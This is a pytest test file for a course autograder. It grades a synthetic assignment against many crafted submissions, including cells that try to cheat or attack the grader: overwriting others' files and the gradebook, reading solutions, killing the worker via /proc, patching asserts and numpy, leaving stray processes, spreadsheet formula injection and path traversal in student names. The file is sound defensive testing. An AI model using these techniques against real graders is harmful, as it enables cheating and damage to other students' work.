"""Tests for course_lib.instructor.grade: the autograder, on a small assignment and a folder of
submissions.

One synthetic assignment (``ch99_demo``: four exercises, 5 points, hidden tests, one real
self-check) and one folder of submissions made here: a perfect one, an empty one, a partly
right one, and every bad case the grader must survive (not a notebook, another chapter, deleted,
moved and renamed cells, an endless loop, ``os._exit``, a memory blow-up, gigabytes of output,
and cells that try to cheat). They are graded once, in parallel, through the command line, and
each test asserts the exact points, the reason and the flags of one of them.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import json
import os
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from course_lib.instructor import exercises, grade

NAME = "ch99_demo"
SANDBOX = grade.sandbox.find_bwrap()[0] is not None
ATTACKS = ("quinn", "rita", "mallory", "pat", "vic", "tracer", "oscar", "pat2", "net")

ADD = '''def add(a, b):
    """a + b."""
    ### BEGIN SOLUTION
    return a + b
    ### END SOLUTION
'''
MUL = '''def mul(a, b):
    """a * b."""
    ### BEGIN SOLUTION
    return a * b
    ### END SOLUTION
'''
SIGMOID = '''import jax.numpy as jnp


def sigmoid_prime(v):
    """The derivative of the logistic sigmoid, elementwise."""
    ### BEGIN SOLUTION
    s = 1 / (1 + jnp.exp(-v))
    return s * (1 - s)
    ### END SOLUTION
'''
SQUARE = '''def square(x):
    """x squared."""
    ### BEGIN SOLUTION
    return x * x
    ### END SOLUTION
'''


def _test(source: str, grade_id: str, points: int = 1):
    meta = {"tags": ["selfcheck"], "nbgrader": {"points": points, "grade_id": grade_id}}
    return new_code_cell(source, metadata=meta)


def demo_solution() -> nbformat.NotebookNode:
    cells = [
        new_markdown_cell("# Demo exercises"),
        new_code_cell("from course_lib import checks"),
        new_markdown_cell("## Exercise 1 · add"),
        new_code_cell(ADD),
        _test(
            "assert add(2, 3) == 5\n### BEGIN HIDDEN TESTS\nassert add(-1, 1) == 0\n"
            "### END HIDDEN TESTS",
            "add",
            points=2,
        ),
        new_markdown_cell("## Exercise 2 · mul"),
        new_code_cell(MUL),
        _test(
            "assert mul(2, 3) == 6\n### BEGIN HIDDEN TESTS\nassert mul(4, 5) == 20\n"
            "### END HIDDEN TESTS",
            "mul",
        ),
        new_code_cell("print('mul(3, 3) =', mul(3, 3))"),  # a "use it" cell
        new_markdown_cell("## Exercise 3 · sigmoid'"),
        new_code_cell(SIGMOID),
        _test("checks.sigmoid_prime(sigmoid_prime)", "sigmoid_prime"),
        new_markdown_cell("## Exercise 4 · square"),
        new_code_cell(SQUARE),
        _test("assert square(3) == 9", "square"),
    ]
    for i, cell in enumerate(cells):
        cell["id"] = f"c{i:02d}"
    nb = new_notebook(cells=cells)
    nb.metadata["kernelspec"] = {"name": "dl-course", "display_name": "DL", "language": "python"}
    annotated, _ = exercises.annotate(nb)
    return annotated


def _edit(nb, function: str, new_body: str):
    """The notebook with the code cell defining `function` given a new source."""
    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
    for cell in nb.cells:
        if cell.cell_type == "code" and f"def {function}(" in cell.source:
            cell.source = new_body
            return nb
    raise AssertionError(function)


ADD_STUB = "def add(a, b):\n    raise NotImplementedError\n\n\n"
STRAY_MARK = "31337.25"  # the sleep time of the processes the `vic` attack leaves behind


def attacks(subs: Path, gradebook: Path, course: Path) -> dict[str, str]:
    """Code that a submission runs to forge its grade or harm others (none solves anything)."""
    victim = subs / "victim_ch99_demo.ipynb"
    solutions = course / "solutions" / f"{NAME}.ipynb"
    return {
        # the audit's A18: overwrite another student's submission and the gradebook
        "quinn": (
            f"for _p in [{str(victim)!r}, {str(gradebook)!r}]:\n"
            "    try:\n"
            "        open(_p, 'w').write('OVERWRITTEN BY QUINN')\n"
            "    except OSError:\n"
            "        pass\n"
        ),
        # A19: run the instructor's solutions, read from disk
        "rita": (
            "import json\n"
            "try:\n"
            f"    _nb = json.load(open({str(solutions)!r}))\n"
            "    for _c in _nb['cells']:\n"
            "        if _c['cell_type'] == 'code' and 'def ' in ''.join(_c['source']):\n"
            "            exec(''.join(_c['source']), globals())\n"
            "except OSError:\n"
            "    pass\n"
        ),
        # A33: find the worker's job through /proc, forge its result, kill it
        "mallory": (
            "import os, signal, json\n"
            "_me = os.getppid()\n"
            "try:\n"
            "    _argv = open(f'/proc/{_me}/cmdline').read().split('\\0')\n"
            "    _fd = int(_argv[_argv.index('--worker') + 1])\n"
            "    _forged = {'token': '?', 'exercises': [], 'flags': [], 'notes': []}\n"
            "    open(f'/proc/{_me}/fd/{_fd}', 'w').write(json.dumps(_forged))\n"
            "except (OSError, ValueError, IndexError):\n"
            "    pass\n"
            "for _pid in (_me, os.getpgid(0)):\n"
            "    try:\n"
            "        os.kill(_pid, signal.SIGKILL)\n"
            "    except OSError:\n"
            "        pass\n"
        ),
        # A16: rebind the notebook's `checks` to an object whose every check passes
        "pat": (
            "class _Pass:\n"
            "    def __getattr__(self, name):\n"
            "        return lambda *a, **k: None\n\n\n"
            "checks = _Pass()\n"
        ),
        # A23: processes that try to outlive the kernel
        "vic": (
            "import subprocess\n"
            "for _ in range(3):\n"
            f"    subprocess.Popen(['sleep', '{STRAY_MARK}'])\n"
            f"subprocess.Popen(['setsid', 'sleep', '{STRAY_MARK}'])\n"
            f"subprocess.Popen('nohup sleep {STRAY_MARK} >/dev/null 2>&1 &', shell=True)\n"
        ),
        # a trace hook that skips every line of a test that raises
        "tracer": ("import sys\nsys.settrace(lambda *a: None)\n"),
        # A15: make numpy's comparisons always succeed
        "oscar": "import numpy\nnumpy.allclose = lambda *a, **k: True\n",
        # A17: swap the exception a failing assert raises for one nobody catches as a failure
        "pat2": (
            "import builtins\n"
            "builtins.AssertionError = type('AssertionError', (BaseException,), {})\n"
        ),
        # the network: connect to a server on the machine's loopback
        "net": (
            "import socket\n"
            "try:\n"
            "    socket.create_connection(('127.0.0.1', 22), timeout=1)\n"
            "except OSError:\n"
            "    pass\n"
        ),
    }


def _processes_with(mark: str) -> list[int]:
    found = []
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            if mark in (entry / "cmdline").read_bytes().decode("utf-8", "replace"):
                found.append(int(entry.name))
        except OSError:
            pass
    return found


def _kill_all(pids: list[int]) -> None:
    for pid in pids:
        try:
            os.kill(pid, 9)
        except OSError:
            pass


def _code_cell(nb, function: str):
    return next(c for c in nb.cells if c.cell_type == "code" and f"def {function}(" in c.source)


# ------------------------------------------------------------------------------ the fixtures


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("course")
    (root / "solutions").mkdir()
    nbformat.write(demo_solution(), root / "solutions" / f"{NAME}.ipynb")
    assert exercises.main(["--root", str(root)]) == 0
    return root


EXPECTED: dict[str, tuple[dict[str, float], str]] = {}  # file -> (points, what)


@pytest.fixture(scope="module")
def graded(course: Path, tmp_path_factory: pytest.TempPathFactory):
    solution = nbformat.read(course / "solutions" / f"{NAME}.ipynb", as_version=4)
    blank = nbformat.read(course / "exercises" / f"{NAME}_exercises.ipynb", as_version=4)
    subs = tmp_path_factory.mktemp("submissions")

    def write(name: str, nb) -> None:
        nbformat.write(nb, subs / name)

    write("perfect_ch99_demo.ipynb", solution)
    write("empty_ch99_demo.ipynb", blank)
    # partly right: add solved, mul right on the visible test only, sigmoid solved, square not
    partly = _edit(blank, "add", "def add(a, b):\n    return a + b\n")
    partly = _edit(partly, "mul", "def mul(a, b):\n    return 6\n")
    partly = _edit(partly, "sigmoid_prime", _code_cell(solution, "sigmoid_prime").source)
    write("partly_ch99_demo.ipynb", partly)
    (subs / "garbage_ch99_demo.ipynb").write_text("this is { not a notebook")
    (subs / "list_ch99_demo.ipynb").write_text("[1, 2, 3]")
    other = json.loads(json.dumps(solution))
    other["metadata"]["course"] = {"generated_from": "solutions/ch98_other.ipynb"}
    write("otherchapter_ch99_demo.ipynb", nbformat.from_dict(other))
    deleted = nbformat.from_dict(json.loads(json.dumps(solution)))
    deleted.cells = [c for c in deleted.cells if "def add(" not in c.source]
    write("deleted_ch99_demo.ipynb", deleted)
    moved = nbformat.from_dict(json.loads(json.dumps(solution)))
    moved.cells = moved.cells[9:] + moved.cells[:9]  # exercises 3-4 before 1-2
    write("moved_ch99_demo.ipynb", moved)
    write("syntax_ch99_demo.ipynb", _edit(solution, "add", "def add(a, b)\n    return a + b\n"))
    write(
        "renamed_ch99_demo.ipynb", _edit(solution, "square", "def squared(x):\n    return x * x\n")
    )
    write(
        "loop_ch99_demo.ipynb",
        _edit(solution, "mul", "def mul(a, b):\n    while True:\n        pass\n"),
    )
    write(
        "exit_ch99_demo.ipynb",
        _edit(solution, "square", "import os\n\n\ndef square(x):\n    os._exit(3)\n"),
    )
    blowup = (
        "def add(a, b):\n    return a + b\n\n\n"
        "hog = []\nwhile True:\n    hog.append(b'x' * 50_000_000)\n"
    )
    write("memory_ch99_demo.ipynb", _edit(solution, "add", blowup))
    noisy = (
        "def mul(a, b):\n    return a * b\n\n\nfor _ in range(2000):\n    print('x' * 1_000_000)\n"
    )
    write("noisy_ch99_demo.ipynb", _edit(solution, "mul", noisy))
    # cheating: a passing no-op self-check, an emptied test cell, a forged pass, a transformer
    patched = "def sigmoid_prime(v):\n    return v\n\n\nchecks.sigmoid_prime = lambda fn: None\n"
    write("patchcheck_ch99_demo.ipynb", _edit(solution, "sigmoid_prime", patched))
    emptied = _edit(solution, "square", "def square(x):\n    return 0\n")
    for cell in emptied.cells:
        if "assert square(3) == 9" in cell.source:
            cell.source = "pass  # nothing to see here"
    write("emptiedtest_ch99_demo.ipynb", emptied)
    forged = (
        "from IPython.display import display\n\n\ndef mul(a, b):\n    return 0\n\n\n"
        f"display({{{grade.RESULT_MIME!r}: {{'nonce': 'guess', 'grade_id': 'mul'}}}}, raw=True)\n"
    )
    write("forged_ch99_demo.ipynb", _edit(solution, "mul", forged))
    transformer = (
        "def add(a, b):\n    return a + b\n\n\n"
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
    )
    write("transformer_ch99_demo.ipynb", _edit(solution, "add", transformer))
    # identity from the folder, and a file nobody can be identified from
    (subs / "carol").mkdir()
    write("carol/ch99_demo.ipynb", solution)
    write("ch99_demo.ipynb", blank)

    # attacks on the grader itself (the audit's, and more): each aims at files it should not
    # reach; all of them are inside this test's temporary folders
    out = tmp_path_factory.mktemp("grades") / "grades.csv"
    out.write_text("an older gradebook\n")
    write("victim_ch99_demo.ipynb", solution)
    for name, code in attacks(subs, out, course).items():
        write(f"{name}_ch99_demo.ipynb", _edit(blank, "add", ADD_STUB + code))
    v3 = nbformat.writes(nbformat.convert(copy.deepcopy(solution), 3), version=3)
    (subs / "oldformat_ch99_demo.ipynb").write_text(v3)
    dup = nbformat.from_dict(json.loads(json.dumps(solution)))
    dup.cells.insert(4, nbformat.from_dict(json.loads(json.dumps(_code_cell(solution, "add")))))
    write("duplicated_ch99_demo.ipynb", dup)
    named = nbformat.from_dict(json.loads(json.dumps(solution)))
    named.metadata["course"] = {"student": '=HYPERLINK("http://example.invalid/?"&A3,"x")'}
    write("formula_ch99_demo.ipynb", named)
    (subs / "linked_ch99_demo.ipynb").symlink_to(subs / "perfect_ch99_demo.ipynb")
    traversal = nbformat.from_dict(json.loads(json.dumps(solution)))
    traversal.metadata["course"] = {"student": "../../etc/x"}
    write("traversal_ch99_demo.ipynb", traversal)

    before = {p: (p.read_bytes(), p.stat().st_mtime_ns) for p in subs.rglob("*.ipynb")}
    status = grade.main(
        [
            str(subs),
            "--root", str(course),
            "--out", str(out),
            "--jobs", "2",
            "--cell-timeout", "40",  # the memory hog hits its limit well within it, under load too
            "--timeout", "240",
            "--memory-limit", "1500",
        ]
    )  # fmt: skip
    after = {p: (p.read_bytes(), p.stat().st_mtime_ns) for p in subs.rglob("*.ipynb")}
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    strays = _processes_with(STRAY_MARK)
    _kill_all(strays)
    return {
        "strays": strays,
        "status": status,
        "before": before,
        "after": after,
        "rows": rows,
        "out": out,
        "subs": subs,
    }


def row(graded, file: str) -> dict[str, str]:
    matches = [
        r
        for r in graded["rows"][1:]
        if Path(r["submission"]).relative_to(graded["subs"]).as_posix() == file
    ]
    assert len(matches) == 1, file
    return matches[0]


def points(graded, file: str) -> dict[str, float]:
    r = row(graded, file)
    return {k: float(r[k]) for k in ("add", "mul", "sigmoid_prime", "square", "total")}


def test_the_command_grades_every_submission_and_modifies_none(graded) -> None:
    assert graded["status"] == 0
    assert graded["before"] == graded["after"]  # same bytes, same mtime: never written
    files = {Path(r["submission"]).name for r in graded["rows"][1:]}
    assert files == {p.name for p in graded["before"]}
    assert graded["rows"][0]["student"] == "(points possible)"
    assert graded["rows"][0]["total"] == "5"
    backups = list(graded["out"].parent.glob("grades.csv.bak-*"))
    assert [b.read_text() for b in backups] == ["an older gradebook\n"]


@pytest.mark.parametrize(
    ("file", "expected"),
    [
        ("perfect_ch99_demo.ipynb", (2, 1, 1, 1)),
        ("empty_ch99_demo.ipynb", (0, 0, 0, 0)),
        ("partly_ch99_demo.ipynb", (2, 0, 1, 0)),
        ("garbage_ch99_demo.ipynb", (0, 0, 0, 0)),
        ("list_ch99_demo.ipynb", (0, 0, 0, 0)),
        ("otherchapter_ch99_demo.ipynb", (0, 0, 0, 0)),
        ("deleted_ch99_demo.ipynb", (0, 1, 1, 1)),
        ("moved_ch99_demo.ipynb", (2, 1, 1, 1)),
        ("renamed_ch99_demo.ipynb", (2, 1, 1, 0)),
        ("syntax_ch99_demo.ipynb", (0, 1, 1, 1)),
        ("loop_ch99_demo.ipynb", (2, 0, 1, 1)),
        ("exit_ch99_demo.ipynb", (2, 1, 1, 0)),
        ("memory_ch99_demo.ipynb", (0, 1, 1, 1)),
        ("noisy_ch99_demo.ipynb", (2, 1, 1, 1)),
        ("patchcheck_ch99_demo.ipynb", (2, 1, 0, 0)),
        ("emptiedtest_ch99_demo.ipynb", (2, 1, 1, 0)),
        ("forged_ch99_demo.ipynb", (2, 0, 1, 1)),
        ("transformer_ch99_demo.ipynb", (0, 0, 0, 0)),
        ("ch99_demo.ipynb", (0, 0, 0, 0)),
        ("victim_ch99_demo.ipynb", (2, 1, 1, 1)),
        ("oldformat_ch99_demo.ipynb", (2, 1, 1, 1)),
        ("duplicated_ch99_demo.ipynb", (2, 1, 1, 1)),
        ("formula_ch99_demo.ipynb", (2, 1, 1, 1)),
        ("linked_ch99_demo.ipynb", (2, 1, 1, 1)),
        ("traversal_ch99_demo.ipynb", (2, 1, 1, 1)),
        *[(f"{name}_ch99_demo.ipynb", (0, 0, 0, 0)) for name in ATTACKS],
    ],
)
def test_exact_points(graded, file: str, expected: tuple[int, ...]) -> None:
    if file.startswith("rita") and not SANDBOX:
        pytest.skip("only the sandbox keeps solutions/ out of a kernel's reach (no bwrap here)")
    got = points(graded, file)
    assert [got[k] for k in ("add", "mul", "sigmoid_prime", "square")] == list(expected)
    assert got["total"] == sum(expected)


def reasons(graded, file: str) -> str:
    return row(graded, file)["reasons"]


def test_reasons_say_what_went_wrong(graded) -> None:
    assert "not attempted" in reasons(graded, "empty_ch99_demo.ipynb")
    partly = reasons(graded, "partly_ch99_demo.ipynb")
    assert "mul: a test failed" in partly  # the hidden test caught the constant 6
    assert "square: not attempted" in partly and "add" not in partly
    assert "not a notebook" in reasons(graded, "garbage_ch99_demo.ipynb")
    assert "not a notebook" in reasons(graded, "list_ch99_demo.ipynb")
    assert "exercises/ch98_other_exercises.ipynb" in reasons(graded, "otherchapter_ch99_demo.ipynb")
    assert "add: the code cell for `add` is missing" in reasons(graded, "deleted_ch99_demo.ipynb")
    assert "square" in reasons(graded, "renamed_ch99_demo.ipynb")
    assert "not defined" in reasons(graded, "renamed_ch99_demo.ipynb")
    assert "add: your code does not compile: SyntaxError" in reasons(
        graded, "syntax_ch99_demo.ipynb"
    )
    assert "mul: timed out" in reasons(graded, "loop_ch99_demo.ipynb")
    assert "square: the kernel died" in reasons(graded, "exit_ch99_demo.ipynb")
    assert "add: stopped: used more than 1500 MB" in reasons(graded, "memory_ch99_demo.ipynb")
    assert "sigmoid_prime: tampering" in reasons(graded, "patchcheck_ch99_demo.ipynb")
    assert "square: a test failed" in reasons(graded, "emptiedtest_ch99_demo.ipynb")
    assert "tampering" in reasons(graded, "transformer_ch99_demo.ipynb")


def test_flags(graded) -> None:
    assert row(graded, "perfect_ch99_demo.ipynb")["flags"] == ""
    assert row(graded, "moved_ch99_demo.ipynb")["flags"] == ""
    for file in ("garbage_ch99_demo.ipynb", "list_ch99_demo.ipynb", "otherchapter_ch99_demo.ipynb"):
        assert row(graded, file)["flags"], file
    assert "tampering" in row(graded, "patchcheck_ch99_demo.ipynb")["flags"]
    assert "tampering" in row(graded, "transformer_ch99_demo.ipynb")["flags"]
    nobody = row(graded, "ch99_demo.ipynb")
    assert nobody["student"].startswith("unidentified-")
    assert "student not identified" in nobody["flags"]


def test_every_attack_is_flagged(graded) -> None:
    for name in ATTACKS:
        flags = row(graded, f"{name}_ch99_demo.ipynb")["flags"]
        assert flags, f"{name}: no flag"
    assert "rebinds `checks`" in row(graded, "pat_ch99_demo.ipynb")["flags"]
    assert "grading failed" in row(graded, "mallory_ch99_demo.ipynb")["flags"] or SANDBOX
    for name in ("tracer", "oscar", "pat2"):
        assert "tampering" in row(graded, f"{name}_ch99_demo.ipynb")["flags"], name


def test_limits_and_odd_names_are_flagged_for_review(graded) -> None:
    assert "hit the memory limit" in row(graded, "memory_ch99_demo.ipynb")["flags"]
    assert "hit the output limit" in row(graded, "noisy_ch99_demo.ipynb")["flags"]
    assert "the kernel died" in row(graded, "exit_ch99_demo.ipynb")["flags"]
    for file in ("formula_ch99_demo.ipynb", "traversal_ch99_demo.ipynb"):
        assert "unusual student name" in row(graded, file)["flags"], file
    assert "unusual" not in row(graded, "perfect_ch99_demo.ipynb")["flags"]


def test_no_process_outlives_the_run(graded) -> None:
    assert graded["strays"] == [], "processes started by a submission survived the run"


def test_nothing_of_anyone_else_is_touched(graded) -> None:
    # the victim's file and the old gradebook (its backup) are intact; every file is unchanged
    assert graded["before"] == graded["after"]
    backups = list(graded["out"].parent.glob("grades.csv.bak-*"))
    assert [b.read_text() for b in backups] == ["an older gradebook\n"]
    assert row(graded, "victim_ch99_demo.ipynb")["total"] == "5"
    assert "restored" not in row(graded, "victim_ch99_demo.ipynb")["flags"] or not SANDBOX


def test_a_formula_in_a_name_is_not_run_by_a_spreadsheet(graded) -> None:
    text = graded["out"].read_text(encoding="utf-8")
    assert "\n\"'=HYPERLINK(" in text or "\n'=HYPERLINK(" in text
    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text


def test_old_format_duplicates_links_and_dead_kernels_are_explained(graded) -> None:
    feedback = graded["out"].parent / "feedback"
    assert "nbformat 3" in (feedback / "oldformat.html").read_text()
    dup = (feedback / "duplicated.html").read_text()
    assert "appears 2 times" in dup and "cells were moved" not in dup
    assert "symbolic link" in row(graded, "linked_ch99_demo.ipynb")["flags"]
    memory = (feedback / "memory.html").read_text()  # the blow-up is in the student's own cell
    assert "one of your code cells: stopped: used more than" in memory


def test_a_name_cannot_place_a_feedback_page_elsewhere(graded) -> None:
    feedback = graded["out"].parent / "feedback"
    pages = sorted(p.name for p in feedback.iterdir())
    assert "_.._etc_x.html" in pages  # inside feedback/, and not a hidden dot-file
    assert not any(p.startswith(".") for p in pages)
    assert not (graded["out"].parent.parent / "etc").exists()


def test_students_are_identified_from_file_and_folder_names(graded) -> None:
    assert row(graded, "perfect_ch99_demo.ipynb")["student"] == "perfect"
    carol = [r for r in graded["rows"] if r["student"] == "carol"]
    assert len(carol) == 1 and float(carol[0]["total"]) == 5


def test_feedback_pages(graded) -> None:
    feedback = graded["out"].parent / "feedback"
    pages = sorted(p.name for p in feedback.glob("*.html"))
    assert len(pages) == len(graded["rows"]) - 1  # one per submission
    page = (feedback / "partly.html").read_text()
    assert "3 / 5" in page and "a test failed" in page and "Exercise 2 · mul" in page
    assert "<script" not in page
    noisy = (feedback / "noisy.html").read_text()
    assert "printed more than" in noisy
    moved = (feedback / "moved.html").read_text()
    assert "cells were moved" in moved


# ------------------------------------------------------------------------------ units


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("subs/alice_ch01_perceptron.ipynb", "alice"),
        ("subs/ch01_perceptron-bob smith.ipynb", "bob smith"),
        ("subs/dave.ipynb", "dave"),
        ("subs/erin/ch01_perceptron.ipynb", "erin"),
        ("subs/submitted/frank/ch01_perceptron/ch01_perceptron.ipynb", "frank"),
        ("subs/ch01_perceptron.ipynb", None),
        ("subs/ch01_perceptron (copy).ipynb", None),
        # the exercise file's own name, as students hand it in
        ("subs/alice_ch01_perceptron_exercises.ipynb", "alice"),
        ("subs/ch01_perceptron_exercises-bob smith.ipynb", "bob smith"),
        ("subs/erin/ch01_perceptron_exercises.ipynb", "erin"),
        ("subs/ch01_perceptron_exercises.ipynb", None),
        ("subs/final_mary_jane_ch01_perceptron_exercises.ipynb", "mary jane"),
        ("subs/mary_jane_ch01_perceptron.ipynb", "mary_jane"),
    ],
)
def test_identify(path: str, expected: str | None) -> None:
    assert grade.identify(Path(path), None, "ch01_perceptron", [Path("subs")]) == expected


def test_identify_prefers_notebook_metadata() -> None:
    nb = {"metadata": {"course": {"student": "grace"}}}
    assert grade.identify(Path("subs/x.ipynb"), nb, "ch01_perceptron", [Path("subs")]) == "grace"


def test_load_assignment_reads_points_titles_and_hidden_tests(course: Path) -> None:
    a = grade.load_assignment(course / "solutions" / f"{NAME}.ipynb")
    assert [ex.grade_id for ex in a.exercises] == ["add", "mul", "sigmoid_prime", "square"]
    assert [ex.points for ex in a.exercises] == [2, 1, 1, 1] and a.possible == 5
    assert a.exercises[1].title == "Exercise 2 · mul"
    assert "assert mul(4, 5) == 20" in a.exercises[1].test_source
    assert "HIDDEN" not in a.exercises[1].test_source
    exercise = (course / "exercises" / f"{NAME}_exercises.ipynb").read_text()
    assert "mul(4, 5)" not in exercise  # students never see hidden tests


def test_unannotated_solution_is_refused(tmp_path: Path) -> None:
    nb = demo_solution()
    del nb.cells[4].metadata["nbgrader"]
    nbformat.write(nb, tmp_path / "x.ipynb")
    with pytest.raises(ValueError, match="--annotate"):
        grade.load_assignment(tmp_path / "x.ipynb")


def test_command_line_errors(course: Path, tmp_path: Path, capsys) -> None:
    with pytest.raises(SystemExit):
        grade.main([str(tmp_path / "nothing.ipynb"), "--root", str(course)])
    assert "does not exist" in capsys.readouterr().err
    sub = tmp_path / "a_ch99_demo.ipynb"
    nbformat.write(demo_solution(), sub)
    with pytest.raises(SystemExit):
        grade.main([str(sub), "--root", str(course), "--out", str(sub)])
    assert "would overwrite a submission" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        grade.main([str(sub), "--root", str(course), "--assignment", "ch42_nope"])
    assert "no solutions/ch42_nope.ipynb" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        grade.main([str(sub), "--root", str(course), "--jobs", "0"])
    assert "--jobs must be positive" in capsys.readouterr().err


def test_gradebook_is_sorted_and_complete(graded) -> None:
    students = [r["student"] for r in graded["rows"][1:]]
    assert students == sorted(students, key=str.lower)
    digest = hashlib.sha256(graded["out"].read_bytes()).hexdigest()
    assert digest  # written atomically: no temporary file left behind
    assert not [p for p in graded["out"].parent.iterdir() if p.name.endswith(".tmp")]
    assert os.access(graded["out"], os.R_OK)


# ------------------------------------------------------------------------------ a real chapter

ROOT = Path(__file__).resolve().parents[1]
CH01 = "ch01_perceptron"


@pytest.mark.skipif(
    SANDBOX, reason="with the sandbox, tests/test_grading_attacks_run.py grades these three"
)
def test_chapter_1_perfect_empty_and_partly_right(tmp_path: Path) -> None:
    """The real ch01 exercises: the solution earns every point, the blank exercise none, and a
    student who solved three exercises earns exactly their points (hidden tests included).
    Where bubblewrap works, the attack run grades the same three students in the sandbox (one
    ch01 grading run fewer in make test); this one covers machines without it."""
    solution = nbformat.read(ROOT / "solutions" / f"{CH01}.ipynb", as_version=4)
    blank = nbformat.read(ROOT / "exercises" / f"{CH01}_exercises.ipynb", as_version=4)
    solved = ("perceptron_epoch", "sigmoid_prime", "tanh_prime")
    partly = nbformat.from_dict(json.loads(json.dumps(blank)))
    for name in solved:
        code = _code_cell(solution, name)
        target = _code_cell(partly, name)
        lines = code.source.splitlines(keepends=True)
        target.source = "".join(line for line in lines if "### " not in line)
    subs = tmp_path / "submitted"
    for student, nb in (("ada", solution), ("ben", blank), ("cy", partly)):
        (subs / student).mkdir(parents=True)
        nbformat.write(nb, subs / student / f"{CH01}.ipynb")
    out = tmp_path / "grades.csv"
    assert grade.main([str(subs), "--root", str(ROOT), "--out", str(out), "--jobs", "2"]) == 0
    rows = {r["student"]: r for r in csv.DictReader(out.open(encoding="utf-8"))}
    assignment = grade.load_assignment(ROOT / "solutions" / f"{CH01}.ipynb")
    points = {ex.grade_id: ex.points for ex in assignment.exercises}
    assert any("HIDDEN" in c.source for c in solution.cells)  # ch01 has hidden tests
    assert float(rows["ada"]["total"]) == assignment.possible == sum(points.values())
    assert float(rows["ben"]["total"]) == 0
    assert float(rows["cy"]["total"]) == sum(points[name] for name in solved)
    for name in points:
        assert float(rows["cy"][name]) == (points[name] if name in solved else 0)
    assert all(not rows[s]["flags"] for s in ("ada", "ben", "cy"))


@pytest.mark.parametrize(
    ("heading", "plain"),
    [
        ("Exercise 2 · mul", "Exercise 2 · mul"),
        (r"Exercises 1.7 and 1.8 · How large can $\sigma'$ and $\tanh'$ be?",
         "Exercises 1.7 and 1.8 · How large can σ′ and tanh′ be?"),
        (r"Step size $\alpha \le 2/\lambda_{max}$", "Step size α ≤ 2/λ_max"),
    ],
)  # fmt: skip
def test_titles_lose_their_latex(heading: str, plain: str) -> None:
    assert grade.plain_title(heading) == plain
